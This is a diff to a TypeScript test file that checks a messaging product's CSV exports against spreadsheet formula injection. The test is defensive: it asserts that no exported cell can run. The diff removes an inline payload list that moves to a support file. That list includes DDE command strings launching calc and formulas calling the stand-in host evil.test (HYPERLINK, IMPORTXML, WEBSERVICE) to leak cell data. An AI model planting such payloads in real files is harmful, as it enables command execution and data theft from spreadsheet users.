@@ -1,7 +1,7 @@
 // What the product writes for spreadsheets, and what a stranger could put into it: a sender's reply, a contact's name, a carrier's word.
 import { parse } from 'csv-parse/sync';
 import { describe, expect, test } from 'vitest';
-import { CSV_START, csvLine, isFormula } from '../src/contract/csv.ts';
+import { CSV_START, csvLine } from '../src/contract/csv.ts';
 import type { Incoming, Message } from '../src/contract/messages.ts';
 import { fileLine } from '../src/server/campaigns/file.rules.ts';
 import { refusedLine } from '../src/server/campaigns/refused.rules.ts';
@@ -11,16 +11,7 @@ import { newTable, openTable } from '../src/server/files/table.ts';
 import { receivedLine, sentLine } from '../src/server/messages/export.rules.ts';
 import { csvOf } from '../src/web/ui/listExport.ts';
 import { sources } from './house/sources.ts';
-
-const PAYLOADS = [
-  '=1+1', '=cmd|\' /C calc\'!A0', '=HYPERLINK("http://evil.test?x="&A1,"click")', '=IMPORTXML("http://evil.test","//a")', '=WEBSERVICE("http://evil.test")', '=DDE("cmd";"/C calc";"x")', '= 1+1', '==1', '=', '=A1:A9',
-  '+1+1', '+cmd|\'/C calc\'!A0', '+SUM(1;2)', '+', '++1', '+254711000111+1', '+254711000111|calc', '+254 711 000 111', '+0254711000111',
-  '-1+1', '-cmd|\'/C calc\'!A0', '-', '--1', '-2+3+cmd|\' /C calc\'!A0', '-A1', '-1e5',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0', '@', '@x', '@A1',
-  '\t=1+1', '\tx', '\r=1+1', '\r', '\n=1+1', '\0=1+1', '\0',
-  '＝1+1', '＋1+1', '－1+1', '＠SUM(1)',
-  '=1+1,"quoted"', '=1\n+1', '"=1+1"', ';=1+1', ',=1+1', 'x\n=1+1', 'x,=1+1', '","=1+1',
-];
+import { FORMULA_PAYLOADS as PAYLOADS, mayRun } from './support/formulas.ts';
 
 const message = (x: string) => ({ messageId: x, campaignName: x, clientName: x, senderId: x, destination: x, text: x, country: x, network: x, carrierMessageId: x, status: x, carrierStatus: x, errorCode: x, segments: 1, units: 1, createTimestamp: 1, submitTimestamp: 2, doneTimestamp: null }) as unknown as Message;
 const incoming = (x: string) => ({ messageId: x, clientName: x, source: x, senderId: x, text: x, receiveTimestamp: 1 }) as unknown as Incoming;
@@ -43,7 +34,7 @@ const EXPORTS: Record<string, (payload: string) => string | Promise<string>> = {
 describe.each(Object.entries(EXPORTS))('%s', (_name, write) => {
   test.each(PAYLOADS)('%j runs nowhere', async (payload) => {
     const cells: string[] = parse(await write(payload), { bom: true, relax_column_count: true, record_delimiter: '\r\n' }).flat();
-    expect(cells.filter((cell) => isFormula(cell))).toEqual([]);
+    expect(cells.filter(mayRun)).toEqual([]);
     expect(cells.some((cell) => cell === payload || cell === `'${payload}`)).toBe(true);
   });
 
